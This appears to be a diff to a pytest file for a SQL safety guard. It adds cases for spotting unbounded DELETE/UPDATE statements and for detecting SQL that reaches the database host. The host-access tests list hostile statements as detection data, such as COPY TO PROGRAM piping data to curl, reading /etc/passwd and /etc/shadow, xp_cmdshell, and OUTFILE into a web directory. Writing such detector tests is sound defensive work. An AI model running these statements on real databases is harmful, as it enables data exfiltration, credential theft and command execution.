@@ -1,6 +1,6 @@
 import pytest
 
-from demur.guards.sql import find_sweeps
+from demur.guards.sql import find_host_access, find_sweeps
 
 SWEEPING = [
     "DELETE FROM users",
@@ -30,12 +30,35 @@ SWEEPING = [
     "truncate table t",
     "truncate t cascade",
     "begin delete from t",
+    "delete from t where (1=1)",
+    "delete from t where ((true)) or x = 2",
+    "delete from t where 1=1 and 2=2",
+    "delete from t where 1 < 2",
+    "delete from t where not false",
+    "delete from t where name like '%'",
+    "delete from t where x = x",
+    "delete from t where id > 0",
+    "DELETE FROM t WHERE t.id >= 1",
+    "update t set a = 1 where user_id <> 7",
+    'update t set a = 1 where "id" is not null',
+    "delete from t where id > -1",
+    "delete from t where (id not in (1, 2))",
 ]
 HARMLESS = [
     "",
     "select * from t",
     "delete from users where id = 3",
     "delete from t where x = 1 or y = 2",
+    "delete from t where (x = 1 or y = 2)",
+    "delete from t where amount > 0",
+    "delete from t where id > 0 and state = 'old'",
+    "delete from t where id > 4711",
+    "delete from t where id < 0",
+    "delete from t where id in (1, 2)",
+    "delete from t where 1 > 2",
+    "delete from t where not true",
+    "delete from t where name like 'tmp%'",
+    "update t set a = 1 where x <> 3",
     "update t set a = 1 where id in (select id from u)",
     "delete from t where 0",
     "explain delete from t",
@@ -118,3 +141,47 @@ def test_a_comment_that_runs_and_is_left_open_is_read_to_its_end() -> None:
 
 def test_a_quote_that_ends_in_a_backslash_is_left_open() -> None:
     assert list(find_sweeps("delete from t where a = 'b\\")) == []
+
+
+@pytest.mark.parametrize(
+    ("text", "want"),
+    [
+        ("COPY t TO PROGRAM 'curl a.example -d @-'", ("program", "program")),
+        ("copy (select 1) from program 'id'", ("program", "program")),
+        ("copy t to '/srv/out.csv'", ("file", "to")),
+        ("copy t from '/etc/passwd'", ("file", "from")),
+        ("select pg_read_file('/etc/passwd')", ("file", "pg_read_file")),
+        ("SELECT Pg_Read_Binary_File ('x')", ("file", "pg_read_binary_file")),
+        ("select * from pg_ls_dir('/')", ("file", "pg_ls_dir")),
+        ("select lo_export(1, '/tmp/x')", ("file", "lo_export")),
+        ("select load_file('/etc/shadow')", ("file", "load_file")),
+        ("select a into outfile '/var/www/x.php' from t", ("file", "outfile")),
+        ("load data infile '/etc/passwd' into table t", ("file", "infile")),
+        ("exec master..xp_cmdshell 'dir'", ("program", "xp_cmdshell")),
+        ("EXEC xp_cmdshell 'dir'", ("program", "xp_cmdshell")),
+        ("select load_extension('x')", ("program", "load_extension")),
+        ("select readfile('/etc/shadow')", ("file", "readfile")),
+        ("/*!50000 select load_file('x') */", ("file", "load_file")),
+    ],
+)
+def test_access_to_the_machine_of_the_database_is_found(text: str, want: tuple[str, str]) -> None:
+    assert [(found.reach, found.name) for found in find_host_access(text)] == [want]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "copy t to stdout",
+        "copy t from stdin",
+        "copy t from '/data/rows.csv'",
+        "select program from t",
+        "select 'copy t to program x'",
+        "-- copy t to program 'x'",
+        "select load_file from t",
+        "load data local infile 'rows.csv' into table t",
+        "insert into t values ('xp_cmdshell')",
+        "please copy the file to 'docs'",
+    ],
+)
+def test_ordinary_statements_reach_nothing(text: str) -> None:
+    assert list(find_host_access(text)) == []
